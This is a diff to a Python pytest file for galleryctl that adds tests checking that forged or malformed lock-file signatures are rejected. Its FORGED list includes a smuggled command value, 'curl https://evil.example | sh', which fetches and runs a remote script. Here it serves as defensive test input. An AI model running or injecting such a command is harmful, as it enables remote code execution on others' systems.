@@ -9,14 +9,14 @@ import subprocess
 import sys
 from collections.abc import Iterator
 from contextlib import contextmanager
-from dataclasses import replace
+from dataclasses import asdict, replace
 from pathlib import Path
 
 import pytest
 
 import galleryctl
 from galleryctl.model.errors import LockedError, StateError
-from galleryctl.state.backend import LockInfo
+from galleryctl.state.backend import LockInfo, decode_lock
 from galleryctl.state.document import State
 from galleryctl.state.file import FileState
 
@@ -210,6 +210,40 @@ def test_a_lock_without_a_readable_signature_is_still_a_lock(path: Path, anna: L
         path.with_name("state.json.lock.json").write_bytes(b"{")
         with pytest.raises(LockedError, match="another process"), FileState(path).lock(anna, 0):
             pass
+
+
+def test_a_lock_is_read_as_it_was_signed(anna: LockInfo) -> None:
+    assert decode_lock(anna.encode()) == anna
+    assert decode_lock(b"null\n") is None
+
+
+FORGED = (
+    {"run": "x; curl https://evil.example | sh"}, {"run": "x\n"}, {"run": ""}, {"run": ["run-1"]},
+    {"who": 5}, {"since": None}, {"operation": "x" * 5000},
+    {"pid": "1"}, {"pid": True}, {"pid": 0}, {"pid": -1}, {"pid": 10**30},
+    {"more": 1},
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("members", FORGED, ids=lambda members: f"{members}"[:40])
+def test_what_nobody_signs_is_no_signature(path: Path, anna: LockInfo, members: dict[str, object]) -> None:
+    """Neither told as a command to be copied, nor asked of the system."""
+    forged = json.dumps({**asdict(anna), "who": f"anna@{socket.gethostname()}", **members}).encode()
+    with pytest.raises(ValueError, match=r"."):
+        decode_lock(forged)
+    path.with_name("state.json.lock.json").write_bytes(forged)
+    with pytest.raises(StateError, match="does not hold the lock"):
+        FileState(path).unlock("run-1")
+
+
+def test_a_signature_that_never_ends_is_not_waited_for(path: Path, anna: LockInfo) -> None:
+    os.mkfifo(path.with_name("state.json.lock.json"))
+    with pytest.raises(StateError, match="does not hold the lock"):
+        FileState(path).unlock("run-1")
+    with FileState(path).lock(anna, 0):
+        assert FileState(path).lock_info() == anna
+        path.with_name("state.json.lock.json").write_bytes(b"[" * 100_000)
+        assert FileState(path).lock_info() is None
 
 
 def test_a_lock_can_be_held_before_there_is_a_state(path: Path, anna: LockInfo) -> None:
